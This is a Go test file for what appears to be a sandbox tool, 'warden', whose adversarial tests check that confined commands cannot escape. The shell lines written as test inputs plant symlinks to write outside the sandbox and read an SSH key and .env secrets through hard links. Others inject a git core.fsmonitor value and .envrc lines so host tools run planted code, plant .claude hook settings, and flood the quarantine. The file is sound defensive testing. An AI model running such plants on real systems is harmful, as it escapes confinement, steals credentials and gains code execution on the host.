	if o.err != nil {
		t.Fatal(o.err)
	}
	if strings.Contains(o.stdout+o.stderr, secret) {
		t.Errorf("a secret in a closed directory was read:\n%s", o.stdout)
	}
	os.Chmod(filepath.Join(project, "c"), 0o777)
	if b, err := os.ReadFile(filepath.Join(project, "c/.envrc")); err != nil || string(b) != "echo hi\n" {
		t.Errorf("c/.envrc changed on the host: %q, %v", b, err)
	}
	if b, _ := os.ReadFile(filepath.Join(project, "ordinary")); string(b) != "ok\n" {
		t.Errorf("control: an ordinary file was not written: %q", b)
	}
}

// TestAdversarialPostCheckThroughLink: the post-run check moves and
// restores files on the host, with the caller's rights; a run that
// leaves a link where the check will act must not have it act on what
// the link names. A submodule-like .git file (kept: a mount cannot hold
// it) is replaced by a link to a file outside, its directory closed
// (chmod 555) so that the link could not be taken away as the caller:
// restoring the .git file must not write through the link. Then the
// directory itself is moved aside and replaced by a link to a directory
// outside holding a .git of its own: the check must not take that .git.
// Both victims are the caller's, outside the sandbox, and stay as they
// were.
func TestAdversarialPostCheckThroughLink(t *testing.T) {
	h := newHostGit(t)
	victims := varTempDir(t)
	os.Chmod(victims, 0o777)
	writeFiles(t, victims, map[string]string{"file": "precious\n", "repo/.git": "gitdir: /elsewhere\n"})
	openAll(t, victims)
	for i, plant := range []string{
		`rm -f sub/.git; ln -s "$V/file" sub/.git; chmod 555 sub`,
		`mv sub sub2 && ln -s "$V/repo" sub`,
	} {
		project := varTempDir(t)
		h.initRepo(t, project)
		h.mustGit(t, project, "init", "-q", "--bare", ".git/modules/sub")
		writeFiles(t, project, map[string]string{"sub/.git": "gitdir: ../.git/modules/sub\n"})
		openAll(t, project)
		t.Cleanup(func() { reopenTree(project) })
		o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Home: h.home, Env: []string{"V=" + victims},
			Quarantine: filepath.Join(varTempDir(t), "q"), Argv: sh(plant)})
		if o.err != nil {
			t.Fatal(o.err)
		}
		for name, want := range map[string]string{"file": "precious\n", "repo/.git": "gitdir: /elsewhere\n"} {
			if b, err := os.ReadFile(filepath.Join(victims, name)); err != nil || string(b) != want {
				t.Errorf("plant %d: %s outside the sandbox, reached through the run's link, changed: %q, %v", i, name, b, err)
			}
		}
		if i == 0 {
			// The .git file is back, through no link, and its
			// directory has the mode the run gave it.
			fi, err := os.Lstat(filepath.Join(project, "sub/.git"))
			b, _ := os.ReadFile(filepath.Join(project, "sub/.git"))
			if err != nil || !fi.Mode().IsRegular() || string(b) != "gitdir: ../.git/modules/sub\n" {
				t.Errorf("sub/.git was not restored: %v, %v, %q", fi, err, b)
			}
			if fi, err := os.Lstat(filepath.Join(project, "sub")); err != nil || fi.Mode().Perm() != 0o555 {
				t.Errorf("sub does not have the mode the run gave it: %v, %v", fi, err)
			}
		} else {
			// The link is taken: nothing on the host leads there.
			wantQuarantined(t, o.res, filepath.Join(project, "sub"))
			if _, err := os.Lstat(filepath.Join(project, "sub")); err == nil {
				t.Error("the link the run left in place of sub is still there")
			}
		}
	}
}

// reopenTree gives every directory of the tree at dir back read, write
// and search to its owner, each before it is read (filepath.Walk reads a
// directory before it calls back for it), so that the tree can be
// removed.
func reopenTree(dir string) {
	os.Chmod(dir, 0o777)
	ents, _ := os.ReadDir(dir)
	for _, e := range ents {
		if e.IsDir() {
			reopenTree(filepath.Join(dir, e.Name()))
		}
	}
}

// passCoarse waits until the coarse clock a run starts from (coarseNow)
// is past the ctime of each of paths: on kernels with multigrain
// timestamps a ctime stamped just before can be later than it.
func passCoarse(t *testing.T, paths ...string) {
	t.Helper()
	var latest unix.Timespec
	for _, p := range paths {
		var st unix.Stat_t
		if err := unix.Lstat(p, &st); err != nil {
			t.Fatal(err)
		}
		if st.Ctim.Sec > latest.Sec || st.Ctim.Sec == latest.Sec && st.Ctim.Nsec > latest.Nsec {
			latest = st.Ctim
		}
	}
	for {
		now := coarseNow()
		if now.Sec > latest.Sec || now.Sec == latest.Sec && now.Nsec > latest.Nsec {
			return
		}
		time.Sleep(time.Millisecond)
	}
}

// TestAdversarialQuarantineCopyBounded: a move into the quarantine from
// another filesystem is a copy, and a sparse file of a gigabyte or a
// directory of thousands of files cost the command nothing. What passes
// the run's budget is removed, not copied: the host's disk does not pay
// for it, and nothing is half kept. A small planted file is still kept.
func TestAdversarialQuarantineCopyBounded(t *testing.T) {
	// The project on /dev/shm (a tmpfs every user may write), the
	// quarantine on /var/tmp: two filesystems.
	var st unix.Statfs_t
	if err := unix.Statfs("/dev/shm", &st); err != nil || st.Type != unix.TMPFS_MAGIC {
		t.Skipf("requires /dev/shm as a tmpfs, for a project on another filesystem than /var/tmp (statfs: type %#x, %v)", st.Type, err)
	}
	project, err := os.MkdirTemp("/dev/shm", "warden-sandbox-test-")
	if err != nil {
		t.Skipf("requires a writable /dev/shm: %v", err)
	}
	t.Cleanup(func() { os.RemoveAll(project) })
	os.Chmod(project, 0o777)
	q := filepath.Join(varTempDir(t), "q")
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Quarantine: q, Argv: sh(
		`mkdir .vscode .idea .claude && truncate -s 1G .vscode/big && ` +
			`i=0; while [ $i -lt 10050 ]; do : > .idea/f$i; i=$((i+1)); done; ` +
			`echo '{"hooks":{}}' > .claude/settings.json; echo ok > ordinary`)})
	if o.err != nil {
		t.Fatal(o.err)
	}
	for _, p := range []string{".vscode", ".idea", ".claude"} {
		wantQuarantined(t, o.res, filepath.Join(project, p))
		if _, err := os.Lstat(filepath.Join(project, p)); err == nil {
			t.Errorf("%s left on the host", p)
		}
	}
	for _, qd := range o.res.Quarantined {
		switch filepath.Base(qd.Path) {
		case ".vscode", ".idea":
			if qd.MovedTo != "" || !strings.Contains(qd.Error, "not moved to the quarantine") {
				t.Errorf("%s was kept, or not said to be removed: %+v", qd.Path, qd)
			}
		case ".claude":
			if b, err := os.ReadFile(filepath.Join(qd.MovedTo, "settings.json")); err != nil || !strings.Contains(string(b), "hooks") {
				t.Errorf("the small planted file was not kept: %q, %v", b, err)
			}
		}
	}
	var size int64
	var entries int
	filepath.Walk(q, func(_ string, fi os.FileInfo, err error) error {
		if err == nil {
			size += fi.Size()
			entries++
		}
		return nil
	})
	if size > quarantineCopyBytes || entries > quarantineCopyEntries {
		t.Errorf("the quarantine holds %d bytes in %d entries, past the budget of %d and %d", size, entries, quarantineCopyBytes, quarantineCopyEntries)
	}
	if b, _ := os.ReadFile(filepath.Join(project, "ordinary")); string(b) != "ok\n" {
		t.Errorf("control: an ordinary file was not written: %q", b)
	}
}

// TestAdversarialHostExecCLI runs warden itself: the run that plants a
// setting exits 126, names it on stderr and in the record, and the state
// directory's quarantine holds it.
func TestAdversarialHostExecCLI(t *testing.T) {
	sandboxtest.RequireUserNS(t)
	warden := sandboxtest.BuildWarden(t)
	project := openProject(t)
	state := varTempDir(t)
	rec := filepath.Join(varTempDir(t), "rec.json")
	// A script the policy cannot see into: named on the command line,
	// the write would be refused before the sandbox is built.
	plant := "mkdir .claude && echo '{\"planted\":1}' > .claude/settings.json\n"
	if err := os.WriteFile(filepath.Join(project, "plant.sh"), []byte(plant), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(warden, "run", "--project", project, "--audit-json", rec, "--", "sh", "plant.sh")
	cmd.Env = append(os.Environ(), "WARDEN_STATE_DIR="+state)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	err := cmd.Run()
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 126 {
		t.Fatalf("warden run: %v, want exit status 126\n%s", err, stderr.String())
	}
	claude := filepath.Join(project, ".claude")
	if !strings.Contains(stderr.String(), claude) {
		t.Errorf("stderr does not name %s:\n%s", claude, stderr.String())
	}
	var r struct {
		Status      int                 `json:"status"`
		ID          string              `json:"id"`
		Quarantined []audit.Quarantined `json:"quarantined"`
	}
	b, err := os.ReadFile(rec)
	if err != nil || json.Unmarshal(b, &r) != nil {
		t.Fatalf("record: %v\n%s", err, b)
	}
	if r.Status != 126 || len(r.Quarantined) != 1 || r.Quarantined[0].Path != claude {
		t.Errorf("record: status %d, quarantined %+v", r.Status, r.Quarantined)
	}
	held := filepath.Join(state, "quarantine", r.ID, "files", claude, "settings.json")
	if b, err := os.ReadFile(held); err != nil || !strings.Contains(string(b), "planted") {
		t.Errorf("the quarantine does not hold the file at %s: %q, %v", held, b, err)
	}
	if _, err := os.Lstat(claude); err == nil {
		t.Error(".claude left on the host")
	}
}

// wantQuarantined checks that each path is among the quarantined entries.
func wantQuarantined(t *testing.T, res Result, paths ...string) {
	t.Helper()
	for _, p := range paths {
		found := false
		for _, q := range res.Quarantined {
			found = found || q.Path == p
		}
		if !found {
			t.Errorf("%s is not listed as quarantined: %+v", p, res.Quarantined)
		}
	}
}

func TestAdversarialSecretsHardLink(t *testing.T) {
	home, project := varTempDir(t), varTempDir(t)
	const secret = "warden-test-secret-hardlink"
	writeFiles(t, home, map[string]string{".ssh/id_ed25519": secret + " key"})
	writeFiles(t, project, map[string]string{".env": secret + " dotenv", "plain.txt": "visible-control"})
	for old, name := range map[string]string{filepath.Join(home, ".ssh/id_ed25519"): "innocent.txt", filepath.Join(project, ".env"): "notes/readme.txt"} {
		os.MkdirAll(filepath.Join(project, filepath.Dir(name)), 0o777)
		if err := os.Link(old, filepath.Join(project, name)); err != nil {
			t.Skipf("hard links from the home to the project: %v", err)
		}
	}
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Home: home, Argv: sh("cat innocent.txt notes/readme.txt plain.txt")})
	if o.err != nil {
		t.Fatal(o.err)
	}
	if strings.Contains(o.stdout, secret) {
		t.Errorf("a hard link to a masked file is readable: %q", o.stdout)
	}
	if !strings.Contains(o.stdout, "visible-control") {
		t.Errorf("control: an ordinary file is not readable: %q", o.stdout)
	}
}

// TestAdversarialSecretsMaskOwn: the caller's own directories
// (Spec.MaskOwn: Warden's state) are masked as Spec.Mask's are, all that
// lies below them included.
func TestAdversarialSecretsMaskOwn(t *testing.T) {
	project, state := varTempDir(t), varTempDir(t)
	const secret = "warden-test-secret-maskown"
	writeFiles(t, state, map[string]string{"token": secret + " token", "spool/1.jsonl": secret + " spool"})
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, MaskOwn: []string{state},
		Argv: sh("cat " + state + "/token " + state + "/spool/1.jsonl; ls -A " + state + "; echo listed")})
	if o.err != nil {
		t.Fatal(o.err)
	}
	if strings.Contains(o.stdout, secret) || strings.Contains(o.stdout, "token") || !strings.HasSuffix(o.stdout, "listed\n") {
		t.Errorf("a directory of MaskOwn is readable or listed: %q", o.stdout)
	}
	// A path of MaskOwn that Mask names too (a credential file kept
	// there) still has its other names masked.
	if err := os.Link(filepath.Join(state, "token"), filepath.Join(project, "innocent.txt")); err != nil {
		t.Skipf("hard links from the state directory to the project: %v", err)
	}
	token := filepath.Join(state, "token")
	o = run(t, Spec{Project: project, Mode: WorkspaceWrite, Mask: []string{token}, MaskOwn: []string{token},
		Argv: sh("cat innocent.txt; echo read")})
	if o.err != nil {
		t.Fatal(o.err)
	}
	if strings.Contains(o.stdout, secret) {
		t.Errorf("a hard link to a file Mask names, in MaskOwn too, is readable: %q", o.stdout)
	}
}

func TestAdversarialSecretsToolDirs(t *testing.T) {
	h := newHostGit(t)
	project := varTempDir(t)
	const secret = "warden-test-secret-tooldirs"
	writeFiles(t, project, map[string]string{
		"node_modules/x/.env":     secret + " node_modules",
		"nested/.env.local":       secret + " nested",
		"node_modules/x/index.js": "visible-control",
	})
	h.initRepo(t, filepath.Join(project, "nested"))
	writeFiles(t, project, map[string]string{"nested/.git/.env": secret + " in .git"})
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Argv: sh("cat node_modules/x/.env nested/.env.local nested/.git/.env node_modules/x/index.js")})
	if o.err != nil {
		t.Fatal(o.err)
	}
	if strings.Contains(o.stdout, secret) {
		t.Errorf("a .env file in a tools' directory or a nested repository is readable: %q", o.stdout)
	}
	if !strings.Contains(o.stdout, "visible-control") {
		t.Errorf("control: an ordinary file is not readable: %q", o.stdout)
	}
}

func TestAdversarialWalkBound(t *testing.T) {
	project := openProject(t)
	deep := project
	for i := 0; i <= int(walkBound.depth); i++ {
		deep = filepath.Join(deep, "d")
	}
	if err := os.MkdirAll(deep, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(deep, ".env"), []byte("warden-test-secret-deep"), 0o644); err != nil {
		t.Fatal(err)
	}
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Argv: sh("echo ran > ran")})
	var se *SetupError
	if !errors.As(o.err, &se) || !strings.Contains(se.Hint, "--degraded=walk") {
		t.Fatalf("a project past the walk's bound: %v, want a setup error with the hint", o.err)
	}
	if _, err := os.Stat(filepath.Join(project, "ran")); err == nil {
		t.Error("the command ran")
	}
	// Degraded by name, it runs and says so.
	o = run(t, Spec{Project: project, Mode: WorkspaceWrite, Degraded: []Layer{LayerWalk}, Argv: sh("echo ran > ran")})
	if o.err != nil || o.res.Status() != 0 {
		t.Fatalf("degraded run: %v, status %d", o.err, o.res.Status())
	}
	if !strings.Contains(strings.Join(o.res.Unenforced, "\n"), "walk") {
		t.Errorf("the degraded run does not say what it lacks: %q", o.res.Unenforced)
	}
}

// TestAdversarialHostReplacesProtected: Linux takes a mount away, in every
// namespace, with the file it is on once that file is renamed over or
// removed outside, as an editor's save or git config does on the host.
// The run waits for it, then writes the protected file it was kept from
// (core.fsmonitor into .git/config, a line into .envrc) or reads the
// masked one (.env). The run is stopped as soon as the host replaces a
// protected file; whatever it wrote before that is in the quarantine with
// the host's change, the protected file is as it was at start, the host's
// git runs nothing, and the run says why it was stopped. A mask the host
// replaced is said after the run.
func TestAdversarialHostReplacesProtected(t *testing.T) {
	sandboxtest.RequireUserNS(t)
	for _, tt := range []struct {
		name, file, start, host, script string
		protected                       bool // else masked
	}{
		{name: "git config", file: ".git/config", host: "[user]\n\tname = Host edit\n", protected: true,
			script: `until printf '[core]\n\tfsmonitor = %s\n' "$EVIL" >> .git/config; do :; done 2>/dev/null; echo wrote; sleep 600`},
		{name: "envrc", file: ".envrc", start: "export A=1\n", host: "export A=2\n", protected: true,
			script: `until echo "$EVIL" >> .envrc; do :; done 2>/dev/null; echo wrote; sleep 600`},
		// A mask is not watched: the command reads the new file at
		// once, before a watch could stop it. The run says so after.
		{name: "dotenv", file: ".env", start: "SECRET=start\n", host: "SECRET=" + canary + " rotated\n",
			script: `until grep -q rotated .env; do :; done 2>/dev/null`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			h := newHostGit(t)
			tr := newTrap(t)
			project := varTempDir(t)
			h.initRepo(t, project)
			p := filepath.Join(project, tt.file)
			if tt.start != "" {
				writeFiles(t, project, map[string]string{tt.file: tt.start})
			}
			openAll(t, project)
			start, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			done := make(chan outcome, 1)
			go func() {
				done <- run(t, Spec{Project: project, Mode: WorkspaceWrite, Home: h.home, Env: []string{"EVIL=" + tr.evil},
					Quarantine: filepath.Join(varTempDir(t), "q"), Argv: sh("touch ready; " + tt.script)})
			}()
			for {
				if _, err := os.Stat(filepath.Join(project, "ready")); err == nil {
					break
				}
				select {
				case o := <-done:
					t.Fatalf("the run ended before it was ready: %v", o.err)
				case <-time.After(20 * time.Millisecond):
				}
			}
			// The host replaces the file by rename, as editors and git do.
			if err := os.WriteFile(p+".new", append(slices.Clip(start), tt.host...), 0o666); err != nil {
				t.Fatal(err)
			}
			if err := os.Rename(p+".new", p); err != nil {
				t.Fatal(err)
			}
			o := <-done
			if o.err != nil {
				t.Fatal(o.err)
			}
			stopped := false
			for _, n := range o.res.Unenforced {
				stopped = stopped || strings.Contains(n, "the run was stopped: "+p+" was replaced on the host")
			}
			if stopped != tt.protected || o.res.TimedOut || o.res.InitKilled {
				t.Errorf("when the host replaced %s: stopped %v (want %v), timed out %v, init killed %v, %q", tt.file, stopped, tt.protected, o.res.TimedOut, o.res.InitKilled, o.res.Unenforced)
			}
			if !tt.protected {
				said := false
				for _, n := range o.res.Unenforced {
					said = said || strings.Contains(n, "mask of "+p+" did not hold")
				}
				if !said {
					t.Errorf("the run does not say that the mask of %s did not hold: %q", tt.file, o.res.Unenforced)
				}
				return
			}
			if b, err := os.ReadFile(p); err != nil || string(b) != string(start) {
				t.Errorf("%s is not as it was at start: %q, %v", tt.file, b, err)
			}
			h.mustGit(t, project, "status")
			if tr.sprung() {
				t.Error("the host's git status ran what the run wrote")
			}
			wantQuarantined(t, o.res, p)
			for _, q := range o.res.Quarantined {
				if q.Path != p {
					continue
				}
				b, err := os.ReadFile(q.MovedTo)
				if err != nil || !strings.HasPrefix(string(b), string(start)+tt.host) {
					t.Errorf("the quarantine does not hold the host's %s: %q, %v", tt.file, b, err)
				}
				// What the run wrote, if it did before it was
				// stopped, is there too, or went to the old file
				// it opened as the host replaced it.
				t.Logf("the quarantine holds %q", b)
			}
		})
	}
}
